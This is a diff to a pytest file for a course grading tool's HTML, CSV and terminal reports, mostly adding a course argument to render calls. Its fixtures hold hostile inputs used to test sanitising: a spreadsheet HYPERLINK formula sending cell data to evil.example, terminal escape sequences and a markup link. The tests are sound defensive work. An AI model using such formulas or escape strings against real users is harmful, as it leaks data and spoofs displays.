@@ -10,6 +10,7 @@ import os
 import re
 import unicodedata
 from html.parser import HTMLParser
+from typing import ClassVar
 
 import pytest
 from rich.console import Console
@@ -52,8 +53,8 @@ def class_results() -> list[SubmissionResult]:
 class Page(HTMLParser):
     """Collects what the tests look at, and checks that every element is closed in order."""
 
-    VOID = {"meta", "br", "hr", "img", "input", "link", "col", "source", "wbr", "area", "base", "embed", "param",
-            "track"}
+    VOID: ClassVar[set[str]] = {"meta", "br", "hr", "img", "input", "link", "col", "source", "wbr", "area", "base",
+                                "embed", "param", "track"}
 
     def __init__(self) -> None:
         super().__init__()
@@ -102,7 +103,7 @@ class Page(HTMLParser):
 
 @pytest.fixture(scope="module")
 def page() -> tuple[str, Page]:
-    html = report.render_html(class_results(), ITEMS)
+    html = report.render_html(COURSE, class_results(), ITEMS)
     parsed = Page()
     parsed.feed(html)
     parsed.close()
@@ -220,8 +221,9 @@ def test_each_failure_table_is_a_closed_details(page):
     tables = [p for table, p in parsed.table_parents if table == "test-table"]
     assert len(tables) == 2 and all(p[-1] == "details" for p in tables)
     assert [attrs for tag, attrs in parsed.tags if tag == "details"] == [{}, {}]  # no "open"
-    assert summaries(html) == [f"<b>{FIRST.id}</b> — 2 of 3 submitted failed a test; most often <code>test_2</code> (2×)",
-                         f"<b>{OTHER.id}</b> — 2 of 3 submitted failed a test; most often <code>test_1</code> (2×)"]
+    assert summaries(html) == [
+        f"<b>{FIRST.id}</b> — 2 of 3 submitted failed a test; most often <code>test_2</code> (2×)",
+        f"<b>{OTHER.id}</b> — 2 of 3 submitted failed a test; most often <code>test_1</code> (2×)"]
 
 
 def a_class_with_a_missing_file() -> list[SubmissionResult]:
@@ -235,7 +237,7 @@ def a_class_with_a_missing_file() -> list[SubmissionResult]:
 
 def test_a_missing_file_is_counted_apart_and_alike_in_both_places():
     """The rule on the page: submitted = the file was there; missing is counted apart."""
-    html = report.render_html(a_class_with_a_missing_file(), ITEMS)
+    html = report.render_html(COURSE, a_class_with_a_missing_file(), ITEMS)
     parsed = Page()
     parsed.feed(html)
     assert report.COUNTING in markup.unescape(html)
@@ -264,7 +266,7 @@ def test_statistics():
 
 
 def test_an_empty_class_renders():
-    assert "0 submissions" in report.render_html([], ITEMS)
+    assert "0 submissions" in report.render_html(COURSE, [], ITEMS)
 
 
 # --- CSV, JSON and the terminal table ---------------------------------------------------
@@ -289,7 +291,7 @@ def test_json_carries_the_flags(tmp_path):
 
 def render(results, items, width=80, isolation=None) -> str:
     console = Console(width=width, record=True, file=open("/dev/null", "w"))  # noqa: SIM115
-    gradebook.print_table(results, items, console, isolation)
+    gradebook.print_table(COURSE, results, items, console, isolation)
     console.file.close()
     return console.export_text()
 
@@ -370,7 +372,9 @@ def test_report_without_results_is_one_line(tmp_path, make):
 FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"see")'
 ESCAPES = "\x1b]0;pwned\x07\x1b[2Jmallory\x1b[31m"
 MARKUP = "[link=https://evil.example]x[/link]"
-ISOLATION = {"requested": "auto", "level": "partial", "layers": {"seccomp": "on"}, "missing": {"landlock": "the kernel has none"}}
+ISOLATION = {"requested": "auto", "level": "partial", "layers": {"seccomp": "on"},
+             "missing": {"landlock": "the kernel has none"}}
+ISOLATION_LINE = "isolation: partial (seccomp; --isolation auto); missing: landlock (the kernel has none)"
 
 
 def chosen_names() -> list[SubmissionResult]:
@@ -410,12 +414,12 @@ def test_json_carries_an_isolation_record_only_when_given(tmp_path):
 def test_the_terminal_shows_names_as_written_and_no_escape_sequence():
     terminal = io.StringIO()
     console = Console(file=terminal, force_terminal=True, width=200, color_system="truecolor")
-    gradebook.print_table(chosen_names(), [FIRST], console, isolation=ISOLATION)
+    gradebook.print_table(COURSE, chosen_names(), [FIRST], console, isolation=ISOLATION)
     shown = terminal.getvalue()
     assert "pwned" not in shown and "\x1b]" not in shown and "\x1b[2J" not in shown and "\t" not in shown
     text = render(chosen_names(), [FIRST], width=200, isolation=ISOLATION)
     assert MARKUP in text and FORMULA in text and "mallory" in text
-    assert text.rstrip().splitlines()[-1] == "isolation: partial (seccomp; --isolation auto); missing: landlock (the kernel has none)"
+    assert text.rstrip().splitlines()[-1] == ISOLATION_LINE
 
 
 def test_the_section_table_shows_names_as_written():
@@ -425,11 +429,11 @@ def test_the_section_table_shows_names_as_written():
 
 
 def test_the_page_holds_no_control_character_and_the_isolation_line():
-    html = report.render_html(chosen_names(), [FIRST], isolation=ISOLATION)
+    html = report.render_html(COURSE, chosen_names(), [FIRST], isolation=ISOLATION)
     assert not [c for c in html if unicodedata.category(c) == "Cc" and c != "\n"]
     assert "pwned" not in html and "mallory" in html
-    assert '<p class="meta" id="isolation">isolation: partial (seccomp; --isolation auto); missing: landlock (the kernel has none)</p>' in html
-    assert 'id="isolation"' not in report.render_html(chosen_names(), [FIRST])
+    assert f'<p class="meta" id="isolation">{ISOLATION_LINE}</p>' in html
+    assert 'id="isolation"' not in report.render_html(COURSE, chosen_names(), [FIRST])
 
 
 @pytest.mark.parametrize("option", ["--json", "--csv", "--html"])
